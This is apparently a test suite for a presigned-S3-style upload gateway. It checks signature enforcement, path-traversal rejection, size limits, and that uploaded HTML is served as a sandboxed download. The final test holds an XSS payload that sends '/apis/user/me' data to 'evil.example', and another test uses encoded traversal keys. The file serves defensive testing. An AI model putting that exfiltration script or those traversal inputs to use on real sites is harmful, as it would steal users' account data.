import { randomUUID } from 'node:crypto';
import { request } from 'node:http';
import { afterEach, describe, expect, inject, it } from 'vitest';
import { onUploadOrigin, presignGet, presignPut } from '../../src/core/uploads/s3';
import { objectsUnder } from '../support/faults';
import { call } from '../support/http';
import { loggedInUser } from '../support/users';

/**
 * `/staging/*` on the console's origin behaves like S3 behind CloudFront (issue 22, item 5): only
 * presigned requests pass (AWS "Authenticating Requests: Using Query Parameters (AWS Signature
 * Version 4)", https://docs.aws.amazon.com/AmazonS3/latest/API/sigv4-query-string-auth.html), with
 * S3's limits (PutObject: 5 GB in one PUT, https://docs.aws.amazon.com/AmazonS3/latest/userguide/upload-objects.html),
 * a key that decodes to a traversal is refused, and whatever comes back is a download the browser
 * never renders on the console's origin.
 */
const base = () => inject('baseUrl');

/** Presigns as the functions do: the host they sign is the bucket endpoint the gateway forwards to. */
const asTheFunctions = async <T>(fn: () => Promise<T>): Promise<T> => {
  const saved = process.env['AWS_ENDPOINT_URL_S3'];
  process.env['AWS_ENDPOINT_URL_S3'] = inject('s3Faults');
  try {
    return await fn();
  } finally {
    process.env['AWS_ENDPOINT_URL_S3'] = saved;
  }
};

afterEach(() => {
  delete process.env['UPLOAD_BASE_URL'];
});

const stagingUrl = (signed: string) => onUploadOrigin(signed, inject('bucketName'), base());

/** A raw request (fetch will not send a Content-Length it does not mean). */
const rawPut = (url: string, headers: Record<string, string>) =>
  new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = request(url, { method: 'PUT', headers }, (res) => {
      let body = '';
      res.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });

describe('/staging/* takes presigned requests only, as S3 does', () => {
  it('refuses an unsigned GET and an unsigned PUT of anyone’s staged key, storing nothing', async () => {
    const victim = await loggedInUser();
    const key = `staging/${victim.id}/${randomUUID()}.mp4`;

    const put = await fetch(`${base()}/${key}`, { method: 'PUT', body: 'overwrite', headers: { 'content-type': 'video/mp4' } });
    const get = await fetch(`${base()}/${key}`);

    expect([put.status, get.status]).toEqual([403, 403]);
    expect(await get.text()).toContain('<Code>AccessDenied</Code>');
    expect(await objectsUnder(`staging/${victim.id}/`)).toEqual([]);
  });

  it('refuses a genuine signature used for another key (another user’s upload)', async () => {
    const thief = await loggedInUser();
    const victim = await loggedInUser();
    const grant = await call('/apis/materials/createUploadUrl', { token: thief.token, form: { type: 'video', size: '9' } });
    expect(grant.body.errcode, grant.text).toBe(0);
    const signed = new URL(grant.body.uploadUrl);
    const elsewhere = `${base()}/staging/${victim.id}/${randomUUID()}.mp4${signed.search}`;

    const put = await fetch(elsewhere, { method: 'PUT', body: 'overwrite', headers: grant.body.headers });

    expect(put.status).toBe(403);
    expect(await put.text()).toContain('<Code>SignatureDoesNotMatch</Code>');
    expect(await objectsUnder(`staging/${victim.id}/`)).toEqual([]);
  });

  it('refuses keys that decode to a traversal, a backslash or a control character', async () => {
    const user = await loggedInUser();
    const grant = await call('/apis/materials/createUploadUrl', { token: user.token, form: { type: 'video', size: '9' } });
    const { search } = new URL(grant.body.uploadUrl);

    const answers = await Promise.all(
      [`staging/${user.id}/..%2F..%2F..%2Fescaped.mp4`, `staging/${user.id}/%2E%2E/x.mp4`, `staging/${user.id}/a%5C..%5Cb.mp4`, `staging/${user.id}/a%00b.mp4`, `staging/${user.id}/a%252Fb.mp4`].map(
        async (path) => (await fetch(`${base()}/${path}${search}`, { method: 'PUT', body: 'escape me', headers: grant.body.headers })).status,
      ),
    );

    // A literal %2E%2E segment is resolved by URL parsing before the gateway sees it (staging/<id>/x.mp4):
    // then the signature, made for another key, fails. Either way nothing lands.
    expect(answers).toEqual([400, 403, 400, 400, 400]);
    expect((await objectsUnder('')).map((o) => o.Key).filter((k) => k?.includes('escape'))).toEqual([]);
  });

  it('refuses a body longer than signed, a PUT without Content-Length, and one past 5 GB', async () => {
    const user = await loggedInUser();
    const grant = await call('/apis/materials/createUploadUrl', { token: user.token, form: { type: 'video', size: '9' } });

    const longer = await fetch(grant.body.uploadUrl, { method: 'PUT', body: 'ten bytes!', headers: { 'content-type': 'video/mp4' } });
    const huge = await rawPut(grant.body.uploadUrl, { 'content-type': 'video/mp4', 'content-length': String(5 * 1024 ** 3 + 1) });
    const chunked = await rawPut(grant.body.uploadUrl, { 'content-type': 'video/mp4', 'transfer-encoding': 'chunked' });

    expect(longer.status).toBe(403);
    expect(huge.status).toBe(400);
    expect(huge.body).toContain('EntityTooLarge');
    expect(chunked.status).toBe(411);
    expect(await objectsUnder(`staging/${user.id}/`)).toEqual([]);
  });

  it('serves an HTML file uploaded through a genuine presigned PUT as a sandboxed attachment, never as a page', async () => {
    const user = await loggedInUser();
    const key = `staging/${user.id}/${randomUUID()}.html`;
    const html = '<!doctype html><script>fetch("/apis/user/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script>';
    const { put, get } = await asTheFunctions(async () => ({
      put: stagingUrl(await presignPut(key, Buffer.byteLength(html), 'text/html')),
      get: stagingUrl(await presignGet(key)),
    }));

    const stored = await fetch(put, { method: 'PUT', body: html, headers: { 'content-type': 'text/html' } });
    const served = await fetch(get);

    expect(stored.status, await stored.clone().text()).toBe(200);
    expect(served.status).toBe(200);
    expect(await served.text()).toBe(html);
    expect(served.headers.get('content-disposition')).toBe('attachment');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
  });
});
